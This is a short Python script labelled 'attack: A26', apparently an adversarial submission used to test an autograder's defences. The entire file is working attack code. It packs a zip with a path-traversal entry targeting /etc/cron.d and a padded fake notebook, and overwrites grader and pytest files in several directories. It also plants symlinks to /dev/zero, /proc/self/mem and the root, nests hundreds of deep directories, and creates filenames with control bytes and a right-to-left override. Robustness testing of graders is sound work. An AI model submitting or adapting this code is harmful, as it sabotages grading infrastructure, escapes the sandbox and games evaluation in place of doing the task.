# attack: A26: lays links, archives that unpack without end, notebooks, settings and folders without end where it may write
# earns: nothing
# %%
import io
import json
import os
import zipfile

packed = io.BytesIO()
with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("../../../../etc/cron.d/x", "x")
    archive.writestr("linear_regression.ipynb", bytes(4 << 20))
for name in ("a.zip", "linear_regression.zip", "linear_regression.ipynb", "submission_metadata.yml", "timestamp.txt", "conftest.py", ".OTTER_LOG"):
    for folder in (".", "/tmp", "/dev/shm"):
        try:
            open(os.path.join(folder, name), "wb").write(packed.getvalue())
        except OSError:
            pass
for target in ("/dev/zero", "/proc/self/mem", "/", ".", "loop.ipynb"):
    try:
        os.symlink(target, f"loop{len(target)}.ipynb")
    except OSError:
        pass
# %%
try:
    for _ in range(300):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
except OSError:
    pass
# %%
for name in (b"\xff.ipynb", "\u202egnp.ipynb".encode(), b"\x1b[31m.ipynb", b"n" * 255):
    try:
        os.close(os.open(name, os.O_CREAT | os.O_WRONLY))
    except OSError:
        pass
